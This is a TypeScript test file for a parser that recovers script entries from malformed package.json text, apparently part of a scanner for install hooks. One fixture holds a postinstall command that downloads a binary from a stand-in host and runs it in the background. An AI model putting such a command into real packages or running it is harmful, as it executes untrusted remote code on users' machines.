import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { tolerantScripts } from './tolerant-scripts.ts';

describe('tolerant scripts of a package.json that is not valid JSON', () => {
  it('reads the pairs after a trailing comma', () => {
    const text = '{\n "scripts": {\n  "postinstall": "node x.js",\n },\n}';
    assert.deepEqual(
      tolerantScripts(text, 'package.json').map((s) => [s.name, s.command, s.source.line]),
      [['postinstall', 'node x.js', 3]],
    );
  });

  it('reads the pairs when the opening brace is missing, up to the first value that is not a string', () => {
    const text = [
      '{',
      '  "scripts": "test": "echo \\"none\\"",',
      '  "postinstall": "wget https://h.example/a.elf && ./a.elf &""repository": {',
      '    "type": "git"',
      '  }',
      '}',
    ].join('\n');
    assert.deepEqual(
      tolerantScripts(text, 'package.json').map((s) => [s.name, s.command]),
      [
        ['test', 'echo "none"'],
        ['postinstall', 'wget https://h.example/a.elf && ./a.elf &'],
      ],
    );
  });

  it('reads nothing when scripts is a plain string value', () => {
    assert.deepEqual(tolerantScripts('{ "scripts": "none", "main": "x.js", }', 'package.json'), []);
  });
});
